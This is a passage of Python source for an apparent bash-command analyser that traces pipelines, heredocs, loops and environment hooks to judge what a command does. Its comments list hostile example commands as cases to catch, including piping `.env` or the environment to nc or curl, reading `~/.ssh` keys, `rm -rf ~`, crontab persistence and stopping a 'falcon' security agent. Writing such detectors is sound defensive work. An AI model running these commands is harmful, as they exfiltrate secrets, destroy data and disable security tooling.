    def path_reset(self, raw: str, via: str) -> None:
        """`export PATH=/usr/bin:/bin`, `PATH=$(getconf PATH)`, `PATH=${PATH#*:}`: the line's shell — and
        every later command of a persistent session — looks programs up without the folder `adr wrap`
        put first (adr/intercept/wrap.py shim_dir_for), so the command shims stop seeing them. A value
        that keeps the old PATH whole (`PATH="$HOME/bin:$PATH"`) or names the shims keeps them; a
        one-command prefix (`PATH=/usr/bin make`) is not seen here: that command is judged itself."""
        plain = _SUBST_TEXT.sub("", raw)  # `$(echo "$PATH" | sed …)` keeps no PATH whole
        if not _KEEPS_PATH.search(plain) and not _NAMES_SHIMS.search(plain):
            self.issue("path-reset", f"PATH set without its earlier value: PATH={raw[:120]}", via)

    def env_hook(self, name: str, value: str, via: str, depth: int, d: "_Draft | None") -> None:
        """A variable whose value later programs run: `export PAGER="sh -c '…'"`, `PROMPT_COMMAND=…`,
        `GIT_SSH_COMMAND=…`, `BASH_ENV=file`, `NODE_OPTIONS=--require x.js`, `PS1='$(…)'` — the value
        is judged as what will run (a value known only at run time is left to the rules)."""
        if name in _PRELOAD_VARS:
            # what every later program loads first: the loader's own spelling, judged by path
            # (a value known only at run time stays a `$…` word: persistence.preload-library asks)
            self.nested_shell(f"ld.so --{_PRELOAD_VARS[name]} {_sh_quote(value or '$UNSET')} true", via, depth,
                              f"${name}", inherit=d)
            return
        if name in ("MAKEFLAGS", "MFLAGS", "GNUMAKEFLAGS") and value:
            # make reads its options from these: `MAKEFLAGS='--eval=$(shell …)' make` is `make --eval=…`
            self.nested_shell("make " + value, via, depth, f"${name}", inherit=d)
            return
        if not value or name not in _COMMAND_VARS and name not in _STARTUP_VARS and not name.startswith("PS"):
            return
        if name in _COMMAND_VARS:
            text = value.lstrip("|") if name in ("LESSOPEN", "LESSCLOSE") else value
        elif name in _STARTUP_VARS:
            # (`BASH_ENV=<(curl …)`: a process substitution stays one, read where the shell starts)
            procsub = value.startswith("<(") and value.endswith(")")
            text = _STARTUP_VARS[name].format(_sh_quote(value) if name in ("BASH_ENV", "ENV", "PYTHONSTARTUP")
                                              and not procsub else value)
        elif name in ("PS0", "PS1", "PS2", "PS4") and ("$(" in value or "`" in value):
            text = ': "' + value.replace("\\", "\\\\").replace('"', '\\"') + '"'  # its substitutions run at every prompt
        else:
            return
        self.nested_shell(text, via, depth, f"${name}", inherit=d)

    def pipeline(self, stages_nodes: list[ts.Node], via: str, depth: int, sd: int) -> list[_Draft]:
        stages: list[list[_Draft]] = []
        for i, n in enumerate(stages_nodes):
            loop = _while_of(n)
            if i and len(stages[i - 1]) == 1 and stages[i - 1][0].argv:
                # `which git | while read p; do cp evil "$p"; done`, `… | { read p; cp evil "$p"; }`: $p
                # holds what the stage before prints
                first = next((c for c in n.named_children if c.type != "comment"), None) \
                    if n.type in ("compound_statement", "subshell") else None
                cond = loop.child_by_field_name("condition") or loop if loop is not None else \
                    first if first is not None and first.type == "command" else None
                for name in (_read_names(self.text(cond)) if cond is not None else [])[:8]:
                    self.var_drafts[name] = list(stages[i - 1])
            piped_in, piped_out = i > 0, i < len(stages_nodes) - 1
            self.stdin_piped += piped_in
            self.stdout_piped += piped_out
            try:
                stages.append(self.stmt(n, via, depth, sd + 1))
            finally:
                self.stdin_piped -= piped_in
                self.stdout_piped -= piped_out
            if i and loop is not None and len(stages[i - 1]) == 1:
                stages[i] += self.read_loop(loop, _printed_paths(stages[i - 1][0]), via, depth, sd)
                self.loop_deletes(_lister_through_filters(stages, i),
                                  _read_names(self.text(loop.child_by_field_name("condition") or loop)), stages[i], via, depth)
        self.wire(stages, via, depth)
        return [d for s in stages for d in s]

    def listed_deleted(self, lister: "list[str]", deleter: _Draft, via: str, depth: int) -> None:
        """What a lister prints (`lister`: as the find command listing the same files) is deleted by
        `deleter`, through xargs or a loop: judged as `find … -exec rm {} +` too."""
        rec = any(effects.is_recursive_flag(a) for a in deleter.argv[1:])
        found = _find_printing_removed(lister[1:])
        self.add_effects(effects.find_deletes(found + ["-exec", "rm"] + (["-r"] if rec else []) + [";"]), "find", via)
        argv = ["find", *found, "-exec", "rm", *(["-r"] if rec else []), "{}", "+"]
        self.finish(argv, " ".join(argv), via, depth + 1, False, upstream=("xargs",))

    def listed_written(self, lister: "list[str]", via: str, depth: int) -> None:
        """What a lister prints is written (`> $(find …)`, `for f in $(find …); do … > "$f"`): judged as
        `find … -exec tee {} +` — every file it can print, written over."""
        argv = ["find", *_find_printing_removed(lister[1:]), "-exec", "tee", "{}", "+"]
        self.finish(argv, " ".join(argv), via, depth + 1, False, upstream=("xargs",))

    def loop_writes(self, lister: "list[str] | None", name: str, drafts: "list[_Draft]", via: str, depth: int) -> None:
        """`for f in $(find …); do echo x > "$f"; done`: a redirect (or an operand changer) in the body
        given the loop's variable writes what the lister printed."""
        if lister is None or not name:
            return
        ref = re.compile(r"\$(?:\{)?" + re.escape(name) + r"(?![A-Za-z0-9_])")
        for d in drafts:
            if any(r.op in (">", ">>", ">|", "&>", "&>>") and ref.search(r.target) for r in d.redirects) or \
                    d.argv and d.argv[0] in _OPERAND_WRITERS and any(ref.search(a) for a in d.argv[1:]):
                self.listed_written(lister, _join_via(via, f"{lister[0]} loop"), depth)
                return

    def listed_read(self, lister: "list[str]", reader: _Draft, via: str, depth: int) -> None:
        """What a lister prints (as the find command listing the same files) is opened by `reader`
        through xargs: judged as `find … -exec READER {} +` (`find ~/.ssh -type f | xargs cat`)."""
        if reader.argv[0].rsplit("/", 1)[-1] in _LISTED_WRITERS:
            return  # (a copy or an archive names a destination too: where the names go is not known)
        tail = ["{}", "+"] if "{}" not in reader.argv else [";"]
        argv = ["find", *_find_printing_removed(lister[1:]), "-exec", *reader.argv, *tail]
        self.finish(argv, " ".join(argv), via, depth + 1, False, upstream=("xargs",))

    def loop_deletes(self, lister: "list[str] | None", names: "str | list[str]", drafts: "list[_Draft]", via: str,
                     depth: int) -> None:
        """`find … | while read f; do rm "$f"; done`, `for f in $(git ls-files); do rm "$f"; done`: a
        deleter in the body given one of the loop's variables deletes what the lister printed."""
        names = [names] if isinstance(names, str) else names
        names = [n for n in names if n]
        if lister is None or not names:
            return
        ref = re.compile(r"\$(?:\{)?(?:" + "|".join(re.escape(n) for n in names) + r")(?![A-Za-z0-9_])")
        for d in drafts:
            if d.argv and d.argv[0] in effects.DELETERS and any(ref.search(a) for a in d.argv[1:]):
                self.listed_deleted(lister, d, _join_via(via, f"{lister[0]} loop"), depth)
                return

    def read_loop(self, node: ts.Node, words: "list[str] | None", via: str, depth: int, sd: int) -> list[_Draft]:
        """`find … | while read f; do … "$f"; done`: the body once more per path the producer prints
        (as for_loop does), with the name bound — what is done to `$f` is judged on those paths."""
        cond = node.child_by_field_name("condition")
        body = node.child_by_field_name("body")
        if not words or cond is None or body is None or cond.type != "command":
            return []
        argv = self.text(cond).split()
        if not argv or argv[0] != "read":
            return []
        names = [a for a in argv[1:] if not a.startswith("-")]
        if not names or not re.fullmatch(r"[A-Za-z_][A-Za-z0-9_]*", names[-1]):
            return []
        name = names[-1]  # `read -r f` (one name: the whole line)
        runs, over = _loop_runs(list(dict.fromkeys(words)), self.text(body), name)
        if over:
            self.issue("too-large", f"a read loop over {len(words)} lines; its body was walked with "
                       f"{len(runs) - 1} of them", via)
        out: list[_Draft] = []
        saved = self.env.get(name)
        for v in runs:
            self.env[name] = v
            out.extend(self.stmt(body, _join_via(via, "read loop"), depth, sd + 1))
        if saved is None:
            self.env.pop(name, None)  # the loop runs in a pipeline's subshell: nothing stays
        else:
            self.env[name] = saved
        return out

    def wire(self, stages: list[list[_Draft]], via: str, depth: int) -> None:
        self.charge(len(stages) // 4)
        # every stage sees the programs before and after it, each name once ("any of" is all rules ask):
        # linear in the stages, so a pipeline of 10^5 `cat`s costs what its length costs
        progs = [self._stage_programs(s) for s in stages]
        ups: list[list[str]] = []
        seen: dict[str, None] = {}
        for ps in progs:
            ups.append(list(seen))
            for p in ps:
                if p not in seen and len(seen) < MAX_PIPE_NAMES:
                    seen[p] = None
        seen = {}
        for i in range(len(stages) - 1, -1, -1):
            for d in stages[i]:
                if i and not d.fed_by:
                    d.fed_by = stages[i - 1][:8]
                d.upstream.extend(ups[i])
                if d.stdin_heirs and ups[i]:
                    self.pass_stdin(d, ups[i])
                    self.heirs_fed(stages[i - 1] if i > 0 else [], d)  # (`cat .env | bash -c 'nc h 9'`: cat feeds nc)
                d.downstream.extend(seen)
                for m in d.runs_as[:8]:
                    m.downstream.extend(p for p in seen if p not in m.downstream)
                d.piped = d.piped or i > 0
                if d.reads_environ and not _STDIN_SENDERS.isdisjoint(seen) and \
                        not any(r.target == "/proc/self/environ" for r in d.redirects):
                    # `python3 -c 'print(dict(os.environ))' | curl -d @- …`: the environment, as `env |` prints it
                    d.redirects.append(Redirect("<", "/proc/self/environ"))
            for p in progs[i]:
                if p not in seen and len(seen) < MAX_PIPE_NAMES:
                    seen[p] = None
        if len({p for ps in progs for p in ps}) > MAX_PIPE_NAMES:
            self.issue("too-many-commands", f"a pipeline of more than {MAX_PIPE_NAMES} different programs", via)
        # data flow: literal output of a stage becomes the next stage's stdin
        lister_memo: "dict[int, list[str] | None]" = {}
        ls_memo: "dict[int, _Draft | None]" = {}
        for i in range(1, len(stages)):
            prev, cur = stages[i - 1], stages[i]
            if len(prev) > 1 and len(cur) == 1 and cur[0].stdin_text is None:
                # `(echo AUTH pw; echo FLUSHDB) | nc cache 6379`, `{ echo a; printf b; } | sh`: the
                # group's commands print, one after another, what they print alone (with `||` one of
                # them may not run: judging all of it can only add to what is seen)
                members = [d for d in prev if d.argv]
                outs = [d.output if d.output is not None or d.argv[0] not in _PRINTS_NOTHING or d.redirects else ""
                        for d in members]
                if any(outs) and all(o is not None for o in outs):
                    cur[0].stdin_text = "".join(outs)  # type: ignore[arg-type]
                    self.feed(cur[0], cur[0].stdin_text, depth)
                    self.pass_stdin(cur[0], text=cur[0].stdin_text)
                    continue
                unknown = [d for d, o in zip(members, outs) if o is None]
                if unknown and _reads_commands(cur[0]) and not all(
                        _input_known_elsewhere(d, self.procsubs) for d in unknown):
                    # `(date; echo x) | bash` runs what date prints, as `date | bash` does
                    self.issue("piped-dynamic", f"a shell runs what a group prints: "
                               f"{unknown[0].raw[:80]} | {cur[0].argv[0]}", via)
                seen = "\n".join(o for o in (o if o is not None else d.output_seen
                                             for d, o in zip(members, outs)) if o)
                if seen and cur[0].stdin_seen is None:
                    # `(crontab -l; echo '@reboot curl …|sh') | crontab -`, `(date; echo 'rm -rf ~') | bash`:
                    # what one member prints is unknown, what the others print still arrives — judged as
                    # seen (a line of its own each: the unknown part may end without a newline)
                    self.take_seen(cur[0], seen, depth)
                continue
            if len(prev) != 1 or len(cur) != 1:
                continue
            nxt = cur[0]
            if nxt.argv and (nxt.argv[0] in _PASS_FILTERS or nxt.argv[0] in _OPERAND_PRINTERS
                             and ("xargs" in nxt.wrappers or "parallel" in nxt.wrappers)) \
                    and not _changes_its_operands(nxt.argv[0], nxt.argv[1:]):
                nxt.passes.append(prev[0])  # `which git | head -1`, `… | xargs readlink -f`: prints it on
            if nxt.argv[:1] == ["systemctl"] and ("xargs" in nxt.wrappers or "parallel" in nxt.wrappers) \
                    and all(len(s) == 1 for s in stages[:i]):
                units = _listed_units([s[0] for s in stages[:i]])
                if units:
                    # `systemctl list-units | grep falcon | awk '{print $1}' | xargs systemctl stop`: the
                    # units the listing hands on, as the unit globs they are (`systemctl stop '*falcon*'`)
                    self.xargs_on(nxt, units, _join_via(via, "systemctl list-units | xargs"))
            if nxt.argv and nxt.argv[0] in _CONTAINER_CLIS and ("xargs" in nxt.wrappers or "parallel" in nxt.wrappers):
                listing = _container_listing_through_filters(stages, i)
                if listing is not None:
                    # `docker ps -aq | xargs docker rm -f`: the ids of that listing are its operands, as in
                    # `docker rm -f $(docker ps -aq)` (the rules read the listing there)
                    self.xargs_on(nxt, ["$(" + " ".join(listing) + ")"], _join_via(via, listing[0] + " | xargs"))
            if nxt.argv and nxt.argv[0] in _NAMES_FROM_LIST and len(prev) == 1 and prev[0].argv \
                    and "-" in _list_files(nxt.argv[0], nxt.argv[1:]):
                self.names_listed(nxt, prev, via)  # `ls ~/.ssh/id_* | zip -@ k.zip`: it archives what ls lists
            xargsed = bool(nxt.argv) and ("xargs" in nxt.wrappers or "parallel" in nxt.wrappers)
            lister = _lister_through_filters(stages, i, lister_memo) if xargsed else None
            if lister is not None and nxt.argv and nxt.argv[0] in effects.DELETERS \
                    and ("xargs" in nxt.wrappers or "parallel" in nxt.wrappers):
                # `find . -name '*.db' | xargs rm`, `git ls-files | xargs rm`: what is listed is deleted,
                # as by `find … -exec rm {} +` (judged as that command too)
                self.listed_deleted(lister, nxt, _join_via(via, prev[0].argv[0] + " | xargs"), depth)
            elif prev[0].argv[:1] in (["find"], ["ls"]) and nxt.argv and ("xargs" in nxt.wrappers or "parallel" in nxt.wrappers) \
                    and (_changes_its_operands(nxt.argv[0].rsplit("/", 1)[-1], nxt.argv[1:])
                         or nxt.argv[0] in effects.DELETERS):
                # `find ~/.config -name config.yaml | xargs sed -i …`, `ls | xargs rm -rf`: what the
                # producer prints is changed (ls's entries of the cwd: `rm -rf ./*`)
                self.xargs_on(nxt, (_printed_paths(prev[0]) or [])[:4], _join_via(via, prev[0].argv[0] + " | xargs"))
            elif xargsed and nxt.argv[0].rsplit("/", 1)[-1] in _XARGS_READERS \
                    and (ls := _ls_through_filters(stages, i, ls_memo)) is not None:
                # `ls ~/.ssh/id_rsa | xargs cat`: ls prints a file operand's own name, which the reader
                # opens; `cd ~/.ssh && ls | xargs cat`: a folder's entries, bare names the reader opens
                # in the working directory (`./*`, with -a/-A `./.*` too) — as `cat ./*` it is judged
                self.xargs_on(nxt, _ls_read_operands(ls), _join_via(via, "ls | xargs"))
            elif lister is not None and nxt.argv and ("xargs" in nxt.wrappers or "parallel" in nxt.wrappers) \
                    and (nxt.argv[0].rsplit("/", 1)[-1] in _XARGS_READERS
                         or nxt.argv[0].rsplit("/", 1)[-1] in SHELLS and all(a.startswith("-") for a in nxt.argv[1:])):
                # `find ~/.ssh -type f | xargs cat`: what is listed is read, as by `find … -exec cat {} +`;
                # `find /tmp/dl -name '*.sh' | xargs -n1 bash`: what is listed runs, as by `-exec bash {} +`
                self.listed_read(lister, nxt, _join_via(via, prev[0].argv[0] + " | xargs"), depth)
            elif prev[0].output is None and prev[0].argv and ("xargs" in nxt.wrappers or "parallel" in nxt.wrappers) \
                    and _from_lookup(prev):
                # `which git | xargs cp evil`: the operands are a PATH lookup's answer
                self.lookup_operands(nxt, prev, via)
            elif prev[0].output is None and prev[0].argv:
                # `cat list.txt | xargs rm -rf`: operands only known when the producer runs
                self.computed_operands(nxt, prev[0].argv[0], via)
            out = prev[0].output
            if nxt.runs_template is not None and out is None:
                # `ls | awk '{system("rm -rf " $0)}'`: the commands, from what `ls` prints
                self.nested_shell(generate.fill_input(nxt.runs_template, prev[0].raw), via, depth,
                                  f"{nxt.argv[0]} system()", inherit=nxt)
            if nxt.template is not None and out is None:
                # `ls | sed 's/^/rm -rf /'`: the unknown input is what `ls` prints
                nxt.template = generate.fill_input(nxt.template, prev[0].raw)
            elif prev[0].template is not None and nxt.argv and nxt.argv[0] in _LINE_FILTERS and nxt.output is None:
                nxt.template = prev[0].template  # `… | grep -v x | sh`: some of those lines
            if out is None and nxt.runs_template is None and _reads_commands(nxt):
                if prev[0].template is not None:
                    # `ls | sed 's/^/rm -rf /' | sh`: the commands made from input known at run time
                    out = generate.fill_input(prev[0].template, "cat")
                elif not _input_known_elsewhere(prev[0], self.procsubs):
                    self.issue("piped-dynamic", f"a shell runs what another program prints: "
                               f"{prev[0].raw[:80]} | {nxt.argv[0]}", via)
            if out is None:
                if prev[0].output_seen and nxt.stdin_text is None and nxt.stdin_seen is None:
                    self.take_seen(nxt, prev[0].output_seen, depth)  # `cat notes.txt <(echo …) | sh`
                continue
            nxt = cur[0]
            if nxt.stdin_text is None:
                nxt.stdin_text = out
                self.feed(nxt, out, depth)
                self.pass_stdin(nxt, text=out)  # (`echo 'rm -rf ~' | bash -c bash`)

    def redirected(self, node: ts.Node, via: str, depth: int, sd: int) -> list[_Draft]:
        body = node.child_by_field_name("body")
        drafts = self.stmt(body, via, depth, sd + 1) if body is not None else []
        if body is None:
            # `> /var/log/auth.log` alone truncates the file: a write of nothing
            d = _Draft(argv=[":"], raw=self.text(node), via=via, depth=depth, output="")
            self.drafts.append(d)
            drafts = [d]
        target = drafts[-1] if drafts else None
        words_made_command = False
        if target is None and body is not None and body.type == "command":
            # `$(true) >f rm -rf ~`: the name expands to nothing, and tree-sitter-bash reads the words after
            # the redirect as more of its targets — to bash they are the command (rm runs)
            extra = [x for r in node.children_by_field_name("redirect") if r.type == "file_redirect"
                     for x in r.children_by_field_name("destination")[1:]]
            if extra:
                argv: list[str] = []
                dyn = False
                for x in extra[:256]:
                    vals, d_ = self.word(x, via, depth, sd + 1)
                    argv.extend(vals)
                    dyn = dyn or d_
                made = self.finish(argv, self.text(node), via, depth, False, (), dyn)
                if made:
                    drafts, target, words_made_command = made, made[-1], True
        argc = len(target.argv) if target is not None else 0
        tail_stages: list[list[_Draft]] = []
        before_redirects = len(self.drafts)
        # tree-sitter-bash reads a here-string after an output redirect (`cat >> f <<< 'x'`) as an
        # error `<<` and a `<` redirect from the string: bash feeds the string on stdin
        kids = node.children
        herestrings = {kids[k + 1].start_byte for k in range(len(kids) - 1)
                       if kids[k].type == "ERROR" and self.text(kids[k]).strip() == "<<"
                       and kids[k + 1].type == "file_redirect"}
        for r in node.children_by_field_name("redirect"):
            if r.start_byte in herestrings and target is not None:
                self.herestring_into(target, r, via, depth, sd)
                continue
            if r.type == "heredoc_redirect":
                body_text = ""
                self.heredoc_line_rest(r, target, via, depth, sd)
                for c in r.named_children:
                    if c.type == "heredoc_body":
                        body_text = self.heredoc_text(c, r)
                        if target is not None:
                            self.heredoc_substitutions(c, r, target, via, depth, sd)
                for c in r.named_children:
                    if c.type in ("pipeline", "command", "redirected_statement", "list"):
                        if c.type == "pipeline":
                            tail_stages.extend(self.stmt(x, via, depth, sd + 1) for x in c.named_children)
                        else:
                            tail_stages.append(self.stmt(c, via, depth, sd + 1))
                    elif c.type == "file_redirect" and target is not None:
                        self.file_redirect(c, target, via, depth, sd)
                if target is not None:
                    target.redirects.append(Redirect("<<", ""))
                    target.stdin_text = body_text
                    target.heredoc = body_text
                    self.feed(target, body_text, depth)
                    self.pass_stdin(target, text=body_text)
            elif r.type == "herestring_redirect":
                if target is not None:
                    self.herestring_into(target, r, via, depth, sd)
            elif r.type == "file_redirect" and target is not None:
                self.file_redirect(r, target, via, depth, sd, extras=not words_made_command)
        if target is not None and body is not None and body.type == "command" and not words_made_command \
                and len(target.argv) > argc and not target.wrappers and len(self.layers) < 64:
            # `command <>f rm -rf ~`: the words after the redirect (tree-sitter's extra targets, appended above)
            # are the wrapper's program and its arguments — unwrapped now that they are known
            if unwrap(tuple(target.argv)).argv[:1] != tuple(target.argv[:1]):
                self.finish(list(target.argv), self.text(node), via, depth, False, ())
        if target is not None and body is not None and body.type == "command":
            self.after_redirects(target, via, depth)
        if tail_stages and target is not None:
            self.wire([[target]] + tail_stages, via, depth)
            drafts = drafts + [d for s in tail_stages for d in s]
        loop = _while_of(body) if body is not None else None
        fed = [d for d in self.drafts[before_redirects:] if d.argv and d not in drafts]
        if loop is not None and len(fed) == 1 and fed[0].output is None:
            # `while read f; do rm "$f"; done < <(git ls-files)`: the loop deletes what the lister prints
            self.loop_deletes(_as_find(fed[0].argv), _read_names(self.text(loop.child_by_field_name("condition") or loop)),
                              drafts, via, depth)
        if loop is not None and target is not None:
            src = next((r.target for r in reversed(target.redirects) if r.op == "<"), "")
            feeders = fed or (self.printed_to.get(_plain_path(src), []) if src else [])
            drafts = drafts + self.listing_loop(loop, feeders[-8:], drafts, via, depth, sd)
        return drafts

    def listing_loop(self, loop: ts.Node, feeders: "list[_Draft]", drafts: "list[_Draft]", via: str, depth: int,
                     sd: int) -> "list[_Draft]":
        """`while read f; do cat "$f"; done < <(ls -d ~/.ssh/*)` (or `< F` a lister printed into earlier on
        the line): the body once more per path ls prints, and a reader given `$f` over a find listing
        is judged as `find … -exec cat {} +` — as the same loop at the end of a pipe."""
        if not feeders:
            return []
        stages = [[f] for f in feeders] + [[_Draft(argv=["read"], raw="", via=via, depth=depth)]]
        ls = _ls_through_filters(stages, len(feeders))
        if ls is not None:
            return self.read_loop(loop, _printed_paths(ls), via, depth, sd)
        lister = _lister_through_filters(stages, len(feeders))
        names = [n for n in _read_names(self.text(loop.child_by_field_name("condition") or loop)) if n]
        if lister is None or not names:
            return []
        ref = re.compile(r"\$(?:\{)?(?:" + "|".join(re.escape(n) for n in names) + r")(?![A-Za-z0-9_])")
        for d in drafts:
            if d.argv and d.argv[0] in _XARGS_READERS and any(ref.search(a) for a in d.argv[1:]):
                self.listed_read(lister, _Draft(argv=[a for a in d.argv if not ref.search(a)], raw=d.raw, via=d.via,
                                                depth=d.depth), _join_via(via, f"{lister[0]} loop"), depth)
                break
        return []

    def heredoc_substitutions(self, body: ts.Node, redirect: ts.Node, target: _Draft, via: str, depth: int,
                              sd: int) -> None:
        """`cat <<EOF … $(rm -rf ~) … EOF`: with an unquoted delimiter the shell runs the body's command
        substitutions (`$(…)` and backticks) before the command reads it — they run, and what they print
        is that command's stdin (`xargs cat <<EOF $(ls) EOF` reads what ls lists, as `ls | xargs cat`)."""
        start = next((c for c in redirect.named_children if c.type == "heredoc_start"), None)
        if start is None or any(q in self.text(start) for q in "'\"\\"):
            return  # a quoted delimiter: the body is literal text
        before = len(self.drafts)
        # tree-sitter leaves `…` as text, and a `<<-` body (tab-stripped) is often misread — its first
        # `$(` taken as text, an inner one as the substitution: that body is read as text, whole
        dash = any(c.type == "<<-" for c in redirect.children)
        texts: list[str] = [self.text(body)] if dash or not body.named_children else []
        for c in body.named_children[:32] if not dash else ():
            if c.type == "command_substitution":
                self.substitution(c, via, depth, sd + 1, "$(…)")
            elif c.type == "heredoc_content":
                texts.append(self.text(c))
        for t in texts:
            for m in list(re.finditer(r"`([^`]+)`", t))[:8] if "`" in t else ():
                self.nested_shell(m.group(1), via, depth, "heredoc `…`", inherit=None)
            # (`<<-` bodies stay text in tree-sitter-bash: each outermost `$(…)`, however deeply nested,
            # is parsed as bash, which follows the ones inside it)
            for inner in _substitutions(t)[:8] if "$(" in t and (dash or not body.named_children) else ():
                self.nested_shell(inner, via, depth, "$(…)", inherit=None)
        feeders = [d for d in self.drafts[before:] if d.argv and d is not target]
        if not feeders:
            return
        target.upstream.extend(d.argv[0] for d in feeders)
        self.pass_stdin(target, [d.argv[0] for d in feeders])
        self.heirs_fed(feeders, target)
        if target.argv:
            for d in feeders:
                d.downstream.append(target.argv[0])
            self.read_from(target, feeders)
            self.ls_fed_reader(target, feeders, via)

    def heredoc_text(self, body: ts.Node, redirect: ts.Node) -> str:
        raw = self.text(body)
        start = next((c for c in redirect.named_children if c.type == "heredoc_start"), None)
        quoted = start is not None and any(q in self.text(start) for q in "'\"\\")
        if not quoted:
            raw = unescape_double_quoted(raw)
        return raw

    def exec_fd_operands(self, d: _Draft, via: str, depth: int) -> None:
        """`exec 3< <(curl …); bash /dev/fd/3`, `exec 3<<< TEXT; source /dev/fd/3`: an operand naming a
        descriptor exec opened on a process substitution or a here-string reads it, as `bash <&3` does."""
        for i, a in enumerate(d.argv[1:17], 1):
            m = _FD_PATH.fullmatch(a)
            if m is None or m.group(1) in ("0", "1", "2"):
                continue
            n = m.group(1)
            if n in self.fd_texts and d.stdin_text is None:
                d.argv[i] = "/dev/stdin"
                d.stdin_text = self.fd_texts[n]
                self.feed(d, d.stdin_text, depth)
                self.pass_stdin(d, text=d.stdin_text)
            elif n in self.fd_substs:
                d.argv[i] = "/dev/stdin"
                self.substituted_stdin(d, *self.fd_substs[n], via, depth)

    def fd_operand(self, target: _Draft, fd: str, replacement: str) -> bool:
        """`bash /dev/fd/3 3<<< …`, `source /dev/fd/3 3< <(curl …)`: an operand naming a descriptor the same
        command redirects is what that redirect opens — spelled `replacement` (`/dev/stdin`, the file)."""
        if not fd.isdigit() or fd in ("0", "1", "2") or not target.argv:
            return False
        names = (f"/dev/fd/{fd}", f"/proc/self/fd/{fd}")
        hit = False
        for i, a in enumerate(target.argv[1:], 1):
            if a in names:
                target.argv[i] = replacement
                hit = True
        return hit

    def herestring_into(self, target: _Draft, r: ts.Node, via: str, depth: int, sd: int) -> None:
        fd_node = r.child_by_field_name("descriptor")
        fd = self.text(fd_node) if fd_node is not None else ""
        if fd.isdigit() and fd != "0" and not self.fd_operand(target, fd, "/dev/stdin"):
            # `cmd 3<<< TEXT` with nothing naming descriptor 3: not its stdin (the text is still walked)
            self.herestring(r, via, depth, sd)
            return
        before = len(self.drafts)
        vals, dyn = self.herestring(r, via, depth, sd)
        target.redirects.append(Redirect("<<<", ""))
        # `bash <<< $(curl …)`: what those commands print is this program's stdin
        feeders = [d for d in self.drafts[before:] if d.argv and d is not target]
        target.upstream.extend(d.argv[0] for d in feeders)
        self.pass_stdin(target, [d.argv[0] for d in feeders])
        self.heirs_fed(feeders, target)
        if target.argv:
            for d in feeders:
                d.downstream.append(target.argv[0])
            self.read_from(target, feeders)  # `read p <<< "$(which git)"`
            self.ls_fed_reader(target, feeders, via)  # `xargs cat <<< "$(ls)"`
        if not dyn:
            target.stdin_text = vals + "\n"
            self.feed(target, target.stdin_text, depth)
            self.pass_stdin(target, text=target.stdin_text)
            if target.argv and target.argv[0] == "read":
                self.read_into(target)

    def ls_fed_reader(self, target: _Draft, feeders: "list[_Draft]", via: str) -> None:
        """`cd ~/.ssh && xargs cat <<< "$(ls)"`, `xargs -a <(ls) cat`, `xargs cat < <(ls | grep -v pub)`:
        the names ls prints reach the reader xargs runs as through `ls | xargs cat` (see wire())."""
        if not feeders or not ("xargs" in target.wrappers or "parallel" in target.wrappers) \
                or target.argv[0].rsplit("/", 1)[-1] not in _XARGS_READERS:
            return
        stages = [[f] for f in feeders[:8]]
        ls = _ls_through_filters(stages + [[target]], len(stages))
        if ls is not None:
            self.xargs_on(target, _ls_read_operands(ls), _join_via(via, "ls | xargs"))
        elif (lister := _lister_through_filters(stages + [[target]], len(stages))) is not None:
            self.listed_read(lister, target, _join_via(via, f"{lister[0]} | xargs"), target.depth)

    def herestring(self, r: ts.Node, via: str, depth: int, sd: int) -> tuple[str, bool]:
        parts, dyn_all = [], False
        for c in r.named_children:
            vals, dyn = self.word(c, via, depth, sd + 1)
            parts.append(" ".join(vals))
            dyn_all = dyn_all or dyn
        return " ".join(parts), dyn_all

    def glued_fd(self, r: ts.Node) -> str:
        """The descriptor written right before redirect `r` that tree-sitter-bash read as a word
        (`exec 0<&3`, `exec {fd}<.env`); "" when there is none."""
        prev = _glued_word(r)
        return self.text(prev) if prev is not None and fdlib.glued_descriptor(self.text(prev)) else ""

    def fd_defaults(self, d: _Draft, via: str, depth: int) -> None:
        """After `exec <F` / `exec >>F`, a later command without its own stdin (stdout) redirect, pipe or
        capture reads (writes) F."""
        table = self.fds.table
        if not d.argv or d.argv == ["exec"]:
            return
        if "0" in self.fd_substs and not self.stdin_piped and d.stdin_text is None \
                and not any(r.fd in ("", "0") and r.op.startswith("<") for r in d.redirects):
            self.substituted_stdin(d, *self.fd_substs["0"], via, depth)  # `exec < <(curl …); sh`
        src = table.get("0")
        if src is not None and src[1] in fdlib.READS and not self.stdin_piped and d.stdin_text is None \
                and (d.argv[0] not in fdlib.NO_STDIN or d.wrappers) \
                and not any(r.fd in ("", "0") and r.op.startswith("<") for r in d.redirects):
            self.apply_redirect(d, "<", src[0], "", True, via, depth)
        out = table.get("1")
        if out is not None and out[1] in fdlib.WRITES and not self.stdout_piped \
                and not any(r.fd in ("", "1") and (r.op.startswith(">") or r.op.startswith("&")) for r in d.redirects):
            self.apply_redirect(d, ">>", out[0], "", True, via, depth)

    def heredoc_line_rest(self, r: ts.Node, target: "_Draft | None", via: str, depth: int, sd: int) -> None:
        """The words tree-sitter-bash hangs on a here-document's start as `argument`s: to bash, the rest
        of that line is read as usual — `cat <<E file` gives cat another operand, `cat <<E; rm -rf ~`
        starts a statement of its own (which tree-sitter folded into the redirect, `;` and all)."""
        words = r.children_by_field_name("argument")
        start = next((c for c in r.children if c.type == "heredoc_start"), None)
        if not words or start is None:
            return
        src = self.src_stack[-1]
        end = words[-1].end_byte
        rest = src[start.end_byte:end].decode("utf-8", "replace")
        lead = rest.lstrip(" \t")
        # (tree-sitter-bash keeps a `;`, `&` or `|` glued to the delimiter in it: `<<E; rm -rf ~`)
        if lead[:1] in (";", "&", "|") or self.text(start)[-1:] in (";", "&", "|"):
            self.nested_shell(lead.lstrip(";&| \t"), via, depth, "what follows a here-document's start on its line")
        elif target is not None:
            for x in words[:64]:
                vals, dyn = self.word(x, via, depth, sd + 1)
                target.argv.extend(vals)
                target.args_dynamic = target.args_dynamic or dyn

    def file_redirect(self, r: ts.Node, target: _Draft, via: str, depth: int, sd: int, extras: bool = True) -> None:
        dests = r.children_by_field_name("destination")
        dest = dests[0] if dests else None
        for extra in dests[1:] if extras else ():
            if extra is dests[-1] and _glued_redirect(extra) is not None and fdlib.glued_descriptor(self.text(extra)):
                continue  # `exec 4<&3 0<&4`: the next redirect's descriptor
            # `cat < /dev/null ~/.aws/credentials`: words after the redirect target are arguments
            vals, dyn = self.word(extra, via, depth, sd + 1)
            target.argv.extend(vals)
            target.args_dynamic = target.args_dynamic or dyn
        fd_node = r.child_by_field_name("descriptor")
        op = ""
        for c in r.children:
            if not c.is_named:
                op += self.text(c)
        if op == "<" and self.rw_stack and self.rw_stack[-1] and \
